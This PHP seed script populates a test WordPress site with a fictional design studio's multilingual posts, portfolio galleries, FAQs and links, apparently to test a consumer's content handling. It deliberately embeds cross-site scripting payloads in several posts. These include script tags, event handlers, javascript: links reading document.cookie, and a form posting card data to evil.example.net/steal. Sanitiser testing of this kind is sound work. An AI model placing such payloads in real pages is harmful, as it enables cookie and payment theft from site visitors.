<?php
/**
 * php seed.php <stack dir>
 *
 * Fills the contract-test WordPress with the studio's kind of content, through
 * WordPress's own functions (as an editor would through wp-admin):
 *
 * - categories, among them `portfolio` and `faq`, one German and one Cyrillic;
 * - 32 published posts (one password-protected), plus a draft, a private and a
 *   scheduled post that anonymous readers must not see; entities and non-ASCII
 *   in titles, two percent-encoded (Cyrillic, Japanese) slugs, Gutenberg block
 *   markup with inline images, and script payloads in some posts;
 * - 13 portfolio items with featured images and galleries of attached images,
 *   one with 104 gallery images (105 attachments with the featured image);
 * - 10 FAQ items.
 *
 * Images are small JPEGs drawn with GD and imported as attachments (thumbnails
 * made by wp_generate_attachment_metadata), so every source_url is on this
 * server. Everything is deterministic: the same input gives the same content.
 * Payloads are stored as an administrator (unfiltered_html) would store them.
 */
if (PHP_SAPI !== 'cli') exit(1);
$dir = $argv[1] ?? '';
if (!is_file("$dir/wp-config.php")) {
    fwrite(STDERR, "seed.php: no wp-config.php in " . var_export($dir, true) . "\n");
    exit(1);
}
require __DIR__ . '/cli-env.php';
require "$dir/wp-config.php";
require_once ABSPATH . 'wp-admin/includes/image.php';
require_once ABSPATH . 'wp-admin/includes/file.php';
require_once ABSPATH . 'wp-admin/includes/media.php';
require_once ABSPATH . 'wp-admin/includes/taxonomy.php';

if (!function_exists('imagecreatetruecolor')) {
    fwrite(STDERR, "seed.php: PHP's GD extension is missing (Debian package php-gd)\n");
    exit(1);
}

function fail(string $message): never
{
    fwrite(STDERR, "seed: $message\n");
    exit(1);
}

function say(string $line): void
{
    fwrite(STDOUT, "seed: $line\n");
}

/** @param int|WP_Error $r */
function ok($r, string $what): int
{
    if (is_wp_error($r)) fail("$what: " . $r->get_error_message());
    if (!$r) fail("$what: failed");
    return (int) $r;
}

// Administrators may post any HTML (unfiltered_html): kses is off for them,
// which is how script payloads reach the REST API on real sites.
wp_set_current_user(1);
if (!current_user_can('unfiltered_html')) fail('user 1 cannot post unfiltered HTML');

// ───────────────────────────── users ─────────────────────────────
$clara = 1;
$jonas = ok(wp_insert_user([
    'user_login' => 'jonas',
    'user_pass' => wp_generate_password(24),
    'user_email' => 'jonas@maple-mortar.example',
    'display_name' => 'Jonas Müller',
    'first_name' => 'Jonas',
    'last_name' => 'Müller',
    'role' => 'editor',
]), 'user jonas');
$amara = ok(wp_insert_user([
    'user_login' => 'amara',
    'user_pass' => wp_generate_password(24),
    'user_email' => 'amara@maple-mortar.example',
    'display_name' => 'Amara O’Neill & Team',
    'role' => 'author',
]), 'user amara');

// ─────────────────────────── categories ──────────────────────────
$cats = [];
foreach ([
    ['Portfolio', 'portfolio', 'Completed projects'],
    ['FAQ', 'faq', 'Questions clients ask us'],
    ['Kitchens', 'kitchens', ''],
    ['Living Rooms', 'living-rooms', ''],
    ['Bathrooms', 'bathrooms', ''],
    ['Renovation', 'renovation', ''],
    ['Design & Build', 'design-build', 'From drawings to handover'],
    ['Sustainability', 'sustainability', ''],
    ['News & Events', 'news-events', ''],
    ['Residential', 'residential', ''],
    ['Commercial', 'commercial', ''],
    ['Ökologie', '', 'Beiträge auf Deutsch'],
    ['Дизайн', '', 'Статьи на русском'],
] as [$name, $slug, $description]) {
    $args = ['description' => $description];
    if ($slug !== '') $args['slug'] = $slug;
    $r = wp_insert_term($name, 'category', $args);
    $cats[$slug !== '' ? $slug : $name] = ok(is_wp_error($r) ? $r : $r['term_id'], "category $name");
}
say(count($cats) . ' categories');

// ───────────────────────────── images ────────────────────────────
/** A small interior "photo": wall, window, floorboards, sofa, rug, lamp, picture, label. */
function studio_jpeg(string $label, int $seed, int $w = 640, int $h = 427): string
{
    $im = imagecreatetruecolor($w, $h);
    $rng = fn (int $i) => (int) (abs(crc32("$seed/$i")) % 1000);
    $palettes = [
        [[232, 220, 203], [176, 141, 87], [138, 154, 123], [43, 42, 40], [184, 107, 75]],
        [[240, 234, 224], [120, 86, 60], [95, 110, 99], [30, 34, 38], [201, 162, 39]],
        [[219, 226, 222], [156, 120, 90], [184, 107, 75], [54, 50, 46], [230, 200, 160]],
        [[247, 241, 232], [92, 74, 60], [70, 90, 110], [25, 25, 25], [190, 150, 110]],
        [[226, 214, 196], [140, 104, 74], [168, 90, 70], [60, 56, 52], [120, 140, 110]],
    ];
    $p = $palettes[$seed % count($palettes)];
    $c = fn (array $rgb, int $d = 0) => imagecolorallocate($im, max(0, min(255, $rgb[0] + $d)), max(0, min(255, $rgb[1] + $d)), max(0, min(255, $rgb[2] + $d)));
    $horizon = (int) ($h * (0.58 + $rng(1) / 5000));
    imagefilledrectangle($im, 0, 0, $w, $horizon, $c($p[0], ($rng(2) % 20) - 10));
    imagefilledrectangle($im, 0, $horizon, $w, $h, $c($p[1]));
    for ($y = $horizon + 14; $y < $h; $y += 18) imageline($im, 0, $y, $w, $y, $c($p[1], -22));
    // window with light
    $wx = 40 + $rng(3) % (int) ($w * 0.45);
    imagefilledrectangle($im, $wx, 40, $wx + 150, $horizon - 40, $c([250, 248, 240]));
    imagerectangle($im, $wx, 40, $wx + 150, $horizon - 40, $c($p[3]));
    imageline($im, $wx + 75, 40, $wx + 75, $horizon - 40, $c($p[3]));
    // picture on the wall
    $px = ($wx + 220 + $rng(4) % 120) % ($w - 120);
    imagefilledrectangle($im, $px, 70, $px + 90, 140, $c($p[4]));
    imagerectangle($im, $px - 4, 66, $px + 94, 144, $c($p[3]));
    // rug and sofa
    imagefilledellipse($im, (int) ($w / 2), $horizon + 70, (int) ($w * 0.7), 70, $c($p[2], 25));
    $sx = 90 + $rng(5) % 160;
    imagefilledrectangle($im, $sx, $horizon - 60, $sx + 300, $horizon + 20, $c($p[2]));
    imagefilledrectangle($im, $sx - 18, $horizon - 30, $sx + 318, $horizon + 30, $c($p[2], -18));
    imagefilledellipse($im, $sx + 60, $horizon - 40, 70, 40, $c($p[4], 30));
    // floor lamp
    $lx = $w - 70 - $rng(6) % 60;
    imageline($im, $lx, $horizon - 120, $lx, $horizon + 40, $c($p[3]));
    imagefilledellipse($im, $lx, $horizon - 125, 60, 34, $c($p[4], 40));
    // label
    $ascii = remove_accents(str_replace(['—', '–', '’', '“', '”'], ['-', '-', "'", '"', '"'], $label));
    $text = substr(preg_replace('/[^\x20-\x7e]/', '', $ascii), 0, 70);
    imagefilledrectangle($im, 0, $h - 30, $w, $h, $c($p[3]));
    imagestring($im, 4, 10, $h - 24, $text, $c([250, 248, 240]));
    ob_start();
    imagejpeg($im, null, 72);
    imagedestroy($im);
    return (string) ob_get_clean();
}

$image_count = 0;
/** Uploads a drawn JPEG as WordPress would, with thumbnails, alt text and caption. */
function studio_attach(string $title, string $alt, int $parent, string $date, int $seed, string $caption = ''): int
{
    global $image_count;
    $bits = studio_jpeg($title, $seed);
    $name = sanitize_title(remove_accents($title)) ?: "image-$seed";
    $up = wp_upload_bits("$name.jpg", null, $bits, substr($date, 0, 4) . '/' . substr($date, 5, 2));
    if (!empty($up['error'])) fail("upload $name.jpg: {$up['error']}");
    $id = ok(wp_insert_attachment([
        'post_mime_type' => 'image/jpeg',
        'post_title' => $title,
        'post_excerpt' => $caption,
        'post_content' => '',
        'post_status' => 'inherit',
        'post_date' => $date,
        'guid' => $up['url'],
    ], $up['file'], $parent, true), "attachment $title");
    wp_update_attachment_metadata($id, wp_generate_attachment_metadata($id, $up['file']));
    update_post_meta($id, '_wp_attachment_image_alt', $alt);
    $image_count++;
    return $id;
}

/** Gutenberg image block for an attachment, as the editor writes it (medium size). */
function image_block(int $id, string $caption = ''): string
{
    $src = wp_get_attachment_image_url($id, 'medium');
    $alt = esc_attr(get_post_meta($id, '_wp_attachment_image_alt', true));
    $cap = $caption !== '' ? "<figcaption class=\"wp-element-caption\">$caption</figcaption>" : '';
    return "<!-- wp:image {\"id\":$id,\"sizeSlug\":\"medium\",\"linkDestination\":\"none\"} -->\n"
        . "<figure class=\"wp-block-image size-medium\"><img src=\"$src\" alt=\"$alt\" class=\"wp-image-$id\"/>$cap</figure>\n"
        . "<!-- /wp:image -->";
}

function p(string $html): string
{
    return "<!-- wp:paragraph -->\n<p>$html</p>\n<!-- /wp:paragraph -->";
}

function h2(string $text): string
{
    return "<!-- wp:heading -->\n<h2 class=\"wp-block-heading\">$text</h2>\n<!-- /wp:heading -->";
}

function ul(array $items): string
{
    return "<!-- wp:list -->\n<ul>" . implode('', array_map(fn ($i) => "<li>$i</li>", $items)) . "</ul>\n<!-- /wp:list -->";
}

function html_block(string $html): string
{
    return "<!-- wp:html -->\n$html\n<!-- /wp:html -->";
}

/** Inserts a record (post, portfolio, faq), then gives it a featured image and gallery if asked. */
function studio_record(array $r): int
{
    $args = [
        'post_type' => $r['type'] ?? 'post',
        'post_status' => $r['status'] ?? 'publish',
        'post_title' => $r['title'],
        'post_content' => '',
        'post_excerpt' => $r['excerpt'] ?? '',
        'post_date' => $r['date'],
        'post_author' => $r['author'] ?? 1,
        'post_category' => $r['categories'] ?? [],
        'comment_status' => 'closed',
    ];
    if (isset($r['slug'])) $args['post_name'] = $r['slug'];
    if (isset($r['password'])) $args['post_password'] = $r['password'];
    $id = ok(wp_insert_post($args, true), "{$args['post_type']} {$r['title']}");
    $seed = $id * 1000;
    $featured = null;
    if (!empty($r['image'])) {
        [$ftitle, $falt] = $r['image'];
        $featured = studio_attach($ftitle, $falt, $id, $r['date'], $seed++);
        set_post_thumbnail($id, $featured);
    }
    $gallery = [];
    foreach ($r['gallery'] ?? [] as $i => [$gtitle, $galt]) {
        $gallery[] = studio_attach($gtitle, $galt, $id, $r['date'], $seed++, $i % 3 === 0 ? "Photo: Maple &amp; Mortar" : '');
    }
    $content = is_callable($r['content']) ? ($r['content'])($featured, $gallery) : $r['content'];
    ok(wp_update_post(['ID' => $id, 'post_content' => $content], true), "content of {$r['title']}");
    return $id;
}

// ───────────────────────────── posts ─────────────────────────────
$studio_paragraphs = [
    'We start every project with a long conversation at the kitchen table: how the household moves through the day, where the light falls at breakfast, which pieces of furniture carry a story worth keeping.',
    'Materials are chosen in daylight, side by side, on site. A sample that glows in the showroom can turn grey beside a north-facing window, so we never sign off a finish from a screen.',
    'Our site managers send a short photo diary every Friday. Clients tell us it is the one e-mail they look forward to during a renovation.',
    'Good joinery is quiet. Drawer fronts that line up, shadow gaps that stay even through the seasons, and oak that is allowed to move without cracking the paint.',
    'Budgets are set room by room before the first drawing, with a contingency of ten per cent that we only spend with the client&#8217;s written agreement.',
    'Lighting is planned in three layers (ambient, task and accent), each on its own circuit, so a room can be bright for homework and soft for dinner.',
    'Where we can, we reuse: reclaimed brick for a garden wall, the old pine doors stripped and rehung, the original cornice repaired rather than replaced.',
    'A small room needs fewer, larger pieces. One generous sofa and a wall-to-wall bookshelf make a snug feel bigger than a crowd of occasional chairs.',
];
$para = fn (int $i, int $n = 3) => implode("\n\n", array_map(fn ($k) => p($studio_paragraphs[($i + $k) % count($studio_paragraphs)]), range(0, $n - 1)));

$posts = [
    ['title' => 'Café-style kitchens — what’s trending', 'cats' => ['kitchens'], 'excerpt' => 'Open shelving, zellige tiles and a bench you actually want to sit on: the café look, made for family life.'],
    ['title' => 'Ökologische Materialien: Lehmputz, Kork und Linoleum', 'cats' => ['Ökologie', 'sustainability'], 'excerpt' => 'Warum wir bei Sanierungen auf natürliche Baustoffe setzen – und wo sie an ihre Grenzen stoßen.'],
    ['title' => 'Дизайн интерьера: тренды 2025', 'cats' => ['Дизайн'], 'excerpt' => 'Тёплые оттенки, натуральное дерево и мягкий свет — что мы видим в проектах этого года.'],
    ['title' => '和モダンのリビング — Japandi living rooms', 'cats' => ['living-rooms']],
    ['title' => 'Design & Build: one contract, one team', 'cats' => ['design-build'], 'excerpt' => 'Why a single point of contact saves weeks on a renovation, and what &quot;design &amp; build&quot; really covers.'],
    ['title' => '10 questions to ask before you knock a wall through', 'cats' => ['renovation']],
    ['title' => 'Small bathrooms, big ideas', 'cats' => ['bathrooms']],
    ['title' => 'Mood boards that work <img src=x onerror=alert(1)>', 'cats' => ['news-events'], 'payload' => true],
    ['title' => 'How we plan lighting in three layers', 'cats' => ['living-rooms']],
    ['title' => 'Colour drenching: walls, skirting and ceiling in one shade', 'cats' => ['living-rooms']],
    ['title' => 'Terrazzo, revisited', 'cats' => ['kitchens', 'bathrooms']],
    ['title' => 'What a &quot;first fix&quot; is, and why it matters', 'cats' => ['renovation']],
    ['title' => 'Embedded widgets from our partners', 'cats' => ['news-events'], 'payload' => true],
    ['title' => 'Heat pumps and underfloor heating in period homes', 'cats' => ['sustainability', 'renovation']],
    ['title' => 'Our studio at Clerkenwell Design Week', 'cats' => ['news-events']],
    ['title' => 'Choosing worktops: quartz, granite, oak or steel?', 'cats' => ['kitchens']],
    ['title' => 'The 5 × 5 rule for planning storage', 'cats' => ['design-build']],
    ['title' => 'Walk-in showers without the splash', 'cats' => ['bathrooms']],
    ['title' => 'Client notes: a week-by-week renovation diary', 'cats' => ['renovation'], 'payload' => true],
    ['title' => 'Restoring Victorian encaustic tiles', 'cats' => ['renovation']],
    ['title' => 'Lime plaster vs. gypsum: what breathes?', 'cats' => ['sustainability']],
    ['title' => 'Hotel lobbies we love (and what homes can borrow)', 'cats' => ['commercial']],
    ['title' => 'Restaurant fit-out: from brief to opening night in 9 weeks', 'cats' => ['commercial', 'design-build']],
    ['title' => 'Open-plan living without the echo', 'cats' => ['living-rooms']],
    ['title' => 'Why we draw by hand first', 'cats' => ['design-build']],
    ['title' => 'Planning permission vs. building regulations', 'cats' => ['renovation']],
    ['title' => 'The perfect paint finish: eggshell, matt or chalky?', 'cats' => ['living-rooms']],
    ['title' => 'Kids’ rooms that grow up with them', 'cats' => ['residential']],
    ['title' => 'Basement conversions: damp, light and headroom', 'cats' => ['renovation', 'residential']],
    ['title' => 'Office refurbishments that people actually use', 'cats' => ['commercial']],
    ['title' => 'Client preview: the Hampstead townhouse', 'cats' => ['residential'], 'password' => 'preview-2025'],
    ['title' => 'Season’s greetings from the studio', 'cats' => ['news-events']],
];

$payloads = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">Open the mood board</a>',
    '<a href="JaVaScRiPt:alert(document.cookie)">Download the PDF</a>',
    '<a href="jav&#x09;ascript:alert(1)">Tab-split link</a>',
    '<p style="color:red;background:url(javascript:alert(1))">Styled paragraph from a page builder.</p>',
    '<iframe src="https://evil.example.net/widget" width="600" height="400"></iframe>',
    '<svg onload=alert(1)><circle r="10"/></svg>',
    '<form action="https://evil.example.net/steal"><input name="card"><button>Pay</button></form>',
    '<object data="https://evil.example.net/x.swf"></object><embed src="https://evil.example.net/x.swf">',
    '<div onclick="alert(1)" onmouseover="alert(2)">Hover for a surprise</div>',
    '<style>body{display:none}</style>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="data URL">',
    '<a href="https://example.org/guide" target="_top" rel="opener">External guide</a>',
];

$start = strtotime('2024-01-08 09:30:00 UTC');
$post_ids = [];
foreach ($posts as $i => $post) {
    $date = gmdate('Y-m-d H:i:s', $start + $i * 19 * 86400 + ($i % 5) * 3600);
    $withImage = $i % 6 !== 5; // a few posts without a featured image
    $title = wp_strip_all_tags($post['title']);
    $author = [$clara, $jonas, $amara][$i % 3];
    $payload = !empty($post['payload']);
    $id = studio_record([
        'title' => $post['title'],
        'excerpt' => $post['excerpt'] ?? '',
        'date' => $date,
        'author' => $author,
        'categories' => array_map(fn ($c) => $GLOBALS['cats'][$c], $post['cats']),
        'password' => $post['password'] ?? null,
        'image' => $withImage ? [$title, "Interior for “{$title}”"] : null,
        'gallery' => $i % 4 === 0 ? [["$title — detail", 'Close-up of materials and joinery']] : [],
        'content' => function (?int $featured, array $gallery) use ($i, $para, $payload, $payloads, $post, $title) {
            $parts = [$para($i, 2)];
            if ($gallery) $parts[] = image_block($gallery[0], 'Detail, photographed on site');
            $parts[] = h2('What we learned');
            $parts[] = ul(['Measure twice, order once', 'Samples in daylight', 'A contingency you never touch']);
            $parts[] = $para($i + 3, 2);
            if ($i === 0) {
                $parts[] = p('Prices start at £4,500 &amp; installation takes 3–4 weeks. Visit <a href="https://www.maple-mortar.example/contact">our studio</a> or call us.');
                $parts[] = html_block('<figure class="wp-block-embed is-type-video"><iframe title="Café kitchen walk-through" width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe></figure>');
            }
            if ($payload) {
                $parts[] = html_block(implode("\n", $payloads));
                $parts[] = p('Thanks to our partners for the <a href="javascript:void(0)" onclick="alert(1)">embedded</a> content.');
            }
            return implode("\n\n", $parts);
        },
    ]);
    $post_ids[] = $id;
}
// One post with a payload in its excerpt too.
wp_update_post(['ID' => $post_ids[12], 'post_excerpt' => 'Partner widgets <script>alert("excerpt")</script> on one page.']);

// Not visible to anonymous readers: a draft, a private post and a scheduled post.
foreach ([['draft', 'Draft: spring colour forecast', '2025-03-01 10:00:00'], ['private', 'Private: supplier price list', '2025-02-01 10:00:00'], ['future', 'Coming soon: our new showroom', '2031-01-01 10:00:00']] as [$status, $title, $date]) {
    ok(wp_insert_post(['post_type' => 'post', 'post_status' => $status, 'post_title' => $title, 'post_content' => p('Not public yet.'), 'post_date' => $date, 'post_date_gmt' => $date], true), $title);
}
say(count($post_ids) . " posts (+ draft, private, scheduled), $image_count images so far");

// ─────────────────────────── portfolio ───────────────────────────
$rooms = ['Entrance hall', 'Living room', 'Kitchen', 'Dining area', 'Snug', 'Main bedroom', 'Guest bedroom', 'Bathroom', 'Cloakroom', 'Study', 'Utility room', 'Staircase', 'Landing', 'Garden room', 'Terrace'];
$views = ['wide view', 'detail', 'from the doorway', 'evening light', 'morning light', 'joinery', 'materials'];
$portfolio = [
    ['Riverside loft, Bermondsey', 'residential', 104],
    ['Hampstead townhouse', 'residential', 6],
    ['Café Lumière — Notting Hill', 'commercial', 5],
    ['Georgian terrace, Bath', 'residential', 4],
    ['Boutique hotel lobby, Brighton', 'commercial', 4],
    ['Family kitchen & garden room', 'residential', 3],
    ['Σπίτι στην Ύδρα — Hydra summer house', 'residential', 3],
    ['Landhaus am Tegernsee', 'residential', 3],
    ['Co-working floor, Shoreditch', 'commercial', 2],
    ['Mews house basement', 'residential', 2],
    ['Dental clinic, Richmond', 'commercial', 2],
    ['Barn conversion, Cotswolds', 'residential', 1],
    ['Penthouse refresh', 'residential', 0],
];
$portfolio_ids = [];
foreach ($portfolio as $i => [$title, $sector, $galleryCount]) {
    $date = gmdate('Y-m-d H:i:s', strtotime('2023-06-05 11:00:00 UTC') + $i * 37 * 86400);
    $gallery = [];
    for ($g = 0; $g < $galleryCount; $g++) {
        $room = $rooms[$g % count($rooms)];
        $view = $views[intdiv($g, count($rooms)) % count($views)];
        $gallery[] = [sprintf('%s — %s, %s (%02d)', $title, $room, $view, $g + 1), "$room, $view"];
    }
    $portfolio_ids[] = studio_record([
        'type' => 'portfolio',
        'title' => $title,
        'excerpt' => $i % 2 === 0 ? "A {$sector} project by the studio: design, build and styling." : '',
        'date' => $date,
        'author' => $i % 2 ? $jonas : $clara,
        'categories' => [$cats['portfolio'], $cats[$sector]],
        'image' => ["$title — cover", "$title, finished interior"],
        'gallery' => $gallery,
        'content' => function (?int $featured, array $gallery) use ($i, $para) {
            $parts = [$para($i, 3)];
            foreach (array_slice($gallery, 0, 2) as $g) $parts[] = image_block($g);
            $parts[] = h2('Scope');
            $parts[] = ul(['Concept and layout', 'Joinery and lighting design', 'Build, snagging and styling']);
            return implode("\n\n", $parts);
        },
    ]);
    say(sprintf('portfolio %d/%d (%d images so far)', $i + 1, count($portfolio), $image_count));
}

// ────────────────────────────── FAQ ──────────────────────────────
$faq = [
    ['How much does an interior design project cost?', 'Most full-home projects fall between £40,000 and £250,000 including build; our design fee is quoted as a fixed sum after the first visit.'],
    ['How long does a kitchen renovation take?', 'Six to ten weeks on site, after four to six weeks of design and ordering. Bespoke joinery sets the pace.'],
    ['Do you work outside London?', 'Yes: we regularly work in the Home Counties, Bath and the Cotswolds, and take on selected projects abroad.'],
    ['Can we live at home during the works?', 'Often, yes. We phase the work and seal off dust-heavy areas; for kitchens we set up a temporary kitchenette.'],
    ['Do you handle planning permission & building control?', 'We prepare drawings, submit applications and meet the inspectors &#8211; you only sign.'],
    ['What is &quot;design &amp; build&quot;?', 'One contract covering design, trades and project management, with a single point of contact from first sketch to handover.'],
    ['Wie lange dauert eine Küchenrenovierung?', 'In der Regel sechs bis zehn Wochen auf der Baustelle, nach vier bis sechs Wochen Planung.'],
    ['Can you reuse our existing furniture?', 'Gladly. We survey what you have and plan around the pieces you love, reupholstering or refinishing where it helps.'],
    ['Which payment schedule do you use?', 'A deposit of 10 %, stage payments tied to milestones, and 5 % held back until snagging is complete.'],
    ['Do you offer a guarantee?', 'All our building work carries a 10-year structural guarantee and a 2-year guarantee on finishes.'],
];
$faq_ids = [];
foreach ($faq as $i => [$q, $a]) {
    $faq_ids[] = studio_record([
        'type' => 'faq',
        'title' => $q,
        'date' => gmdate('Y-m-d H:i:s', strtotime('2024-02-01 08:00:00 UTC') + $i * 11 * 86400),
        'categories' => [$cats['faq']],
        'content' => p($a) . ($i === 1 ? "\n\n" . p('<script>document.write("tracking")</script>See also <a href="/blog/faq/">all questions</a>.') : ''),
        'excerpt' => '',
    ]);
}
say(count($faq) . ' FAQ items');

// ─────────────────── links in every form WordPress bodies hold (decision 070) ───────────────────
// A WordPress page (not in the snapshot), and a post whose body links to records, the page,
// archives and uploads in every spelling an editor or WordPress itself produces.
$about = ok(wp_insert_post(['post_type' => 'page', 'post_status' => 'publish', 'post_title' => 'About the studio', 'post_name' => 'about', 'post_content' => p('Who we are.')], true), 'page About');
$target = $post_ids[1];
$target_link = get_permalink($target);
studio_record([
    'title' => 'Links in every form',
    'slug' => 'links-in-every-form',
    'excerpt' => 'A post that links to everything.',
    'date' => '2025-06-02 09:00:00',
    'categories' => [$cats['renovation'] ?? array_values($cats)[0]],
    'image' => ['Links in every form', 'Moodboard pinned to a wall'],
    'content' => function (?int $featured, array $gallery) use ($target, $target_link, $about, $portfolio_ids, $faq_ids) {
        $home = wp_parse_url(home_url('/'));
        $rel = wp_make_link_relative($target_link);
        $links = [
            'permalink' => $target_link,
            'http' => set_url_scheme($target_link, 'http'),
            'localhost' => str_replace($home['host'] . (isset($home['port']) ? ':' . $home['port'] : ''), 'localhost', $target_link),
            'root-relative' => untrailingslashit($rel),
            'dot-dot' => '../' . get_post_field('post_name', $target) . '/#fit',
            'p-id' => home_url('/?p=' . $portfolio_ids[0]),
            'p-id-relative' => '?p=' . $faq_ids[0],
            'portfolio' => get_permalink($portfolio_ids[1]),
            'faq' => get_permalink($faq_ids[1]),
            'page' => wp_make_link_relative(get_permalink($about)),
            'page-id' => home_url('/?page_id=' . $about),
            'month' => get_month_link(2024, 1),
            'category' => get_category_link(array_values($GLOBALS['cats'])[0]),
            'upload' => wp_get_attachment_url($featured),
            'upload-thumb' => wp_get_attachment_image_src($featured, 'thumbnail')[0],
            'external' => 'https://www.example.org/guide',
            'fragment' => '#fit',
        ];
        $items = [];
        foreach ($links as $label => $href) $items[] = '<a href="' . esc_attr($href) . '">' . $label . '</a>';
        return p('Further reading: ' . implode(', ', $items) . '.') . "\n\n" . h2('Fit') . "\n\n" . p('Measure first.');
    },
]);
say('a post with links in every form, and a WordPress page');

flush_rewrite_rules(false);
say(sprintf('done: %d posts, %d portfolio items, %d FAQ items, %d categories, %d images', count($post_ids), count($portfolio_ids), count($faq), count($cats), $image_count));
